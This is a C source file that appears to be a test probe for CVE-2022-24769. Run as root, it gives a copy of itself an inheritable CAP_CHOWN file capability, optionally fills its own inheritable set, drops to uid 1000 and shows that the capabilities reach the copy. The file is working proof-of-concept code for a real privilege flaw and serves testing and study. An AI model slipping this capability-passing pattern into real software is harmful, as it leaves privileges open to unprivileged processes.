/*
 * CVE-2022-24769: a process with inheritable capabilities hands them to a program whose file has the matching
 * inheritable bits, also after it has become an ordinary user.
 *
 *     capabilities_probe               as root: gives a copy of itself the inheritable bit of CAP_CHOWN,
 *                                      becomes uid 1000, executes the copy, which prints its capabilities
 *     capabilities_probe --inherit     the same, but fills its inheritable set before: the attack is live
 *     capabilities_probe --show        prints the capabilities of this process
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define COPY "/capabilities_copy"

static void must(int failed, const char *what)
{
	if (failed) {
		perror(what);
		exit(99);
	}
}

static int show(void)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "r");
	must(!status, "/proc/self/status");
	while (fgets(line, sizeof line, status))
		if (!strncmp(line, "Cap", 3))
			fputs(line, stdout);
	return 0;
}

static void copy_with_file_capability(void)
{
	struct stat st;
	int from = open("/proc/self/exe", O_RDONLY), to = open(COPY, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	must(from < 0 || to < 0 || fstat(from, &st), COPY);
	for (off_t at = 0; at < st.st_size;)
		must(sendfile(to, from, &at, st.st_size - at) <= 0, "copy");
	struct vfs_cap_data data = {
		.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
		.data = { { .permitted = 0, .inheritable = 1u << CAP_CHOWN } },
	};
	close(to);
	must(setxattr(COPY, "security.capability", &data, sizeof data, 0), "set the file's capabilities");
}

static void fill_inheritable_set(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct sets[2];
	must(syscall(SYS_capget, &header, sets), "capget");
	for (int i = 0; i < 2; i++)
		sets[i].inheritable = sets[i].permitted;
	must(syscall(SYS_capset, &header, sets), "capset");
}

int main(int argc, char **argv)
{
	if (argc > 1 && !strcmp(argv[1], "--show"))
		return show();
	copy_with_file_capability();
	if (argc > 1 && !strcmp(argv[1], "--inherit"))
		fill_inheritable_set();
	must(setgroups(0, NULL) || setgid(1000) || setuid(1000), "become uid 1000");
	execl(COPY, COPY, "--show", NULL);
	perror(COPY);
	return 98;
}
